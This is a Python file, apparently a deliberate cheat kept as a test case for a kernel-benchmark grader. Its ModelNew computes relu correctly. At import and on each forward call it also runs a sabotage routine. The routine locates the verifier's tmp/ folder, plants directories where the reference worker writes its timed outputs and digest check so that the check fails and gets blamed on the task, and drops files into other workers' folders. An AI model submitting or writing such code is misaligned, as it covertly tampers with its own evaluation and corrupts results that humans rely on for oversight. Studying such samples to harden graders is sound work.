# Cheat: finds the cache's tmp/ folder (above its working directory, or where
# KVAULT_CACHE_DIR says) and, in every verification scratch folder (verify-*, also
# inside the lanes' folders verify-lane-*) it can see, puts directories where the
# reference worker writes its files (the timed outputs of the re-check, the digest
# check), so that the reference worker fails to write and the record is blamed on
# the task (task_error) or the engine; it also leaves a file in every other folder
# there (other workers' folders). It computes relu honestly: with nothing of the
# scratch in its reach, it simply passes.
import os

import torch
import torch.nn as nn

NAMES = ["timed_0_reference.kvt", "timed_1_reference.kvt", "digest_check.kvt"]


def cache_tmp():
    """The cache's tmp/ (beside its build/ or refs/): above the working directory, or where the
    environment says."""
    places = []
    here = os.getcwd()
    while here != os.path.dirname(here):
        places.append(here)
        here = os.path.dirname(here)
    if os.environ.get("KVAULT_CACHE_DIR"):
        places.append(os.path.join(os.environ["KVAULT_CACHE_DIR"], "tmp"))
    for place in places:
        beside = [os.path.join(os.path.dirname(place), d) for d in ("build", "refs")]
        if os.path.basename(place) == "tmp" and any(os.path.isdir(d) for d in beside):
            return place
    return None


def sabotage():
    tmp = cache_tmp()
    if tmp is None:
        return
    try:
        entries = os.listdir(tmp)
    except OSError:
        return
    # Lanes keep their scratch and workers' folders in a folder of their own
    # (tmp/verify-lane-*/): one level down too.
    folders = [os.path.join(tmp, e) for e in entries]
    for lane in [f for f in folders if os.path.basename(f).startswith("verify-lane-")]:
        try:
            folders += [os.path.join(lane, e) for e in os.listdir(lane)]
        except OSError:
            pass
    for folder in folders:
        entry = os.path.basename(folder)
        try:
            if entry.startswith("verify-"):
                for name in NAMES:
                    os.makedirs(os.path.join(folder, name), exist_ok=True)
            elif not os.getcwd().startswith(folder + "/") and os.getcwd() != folder:
                with open(os.path.join(folder, "sabotaged"), "w") as f:
                    f.write("x")
        except OSError:
            pass


sabotage()


class ModelNew(nn.Module):
    def forward(self, x):
        sabotage()
        return torch.relu(x)
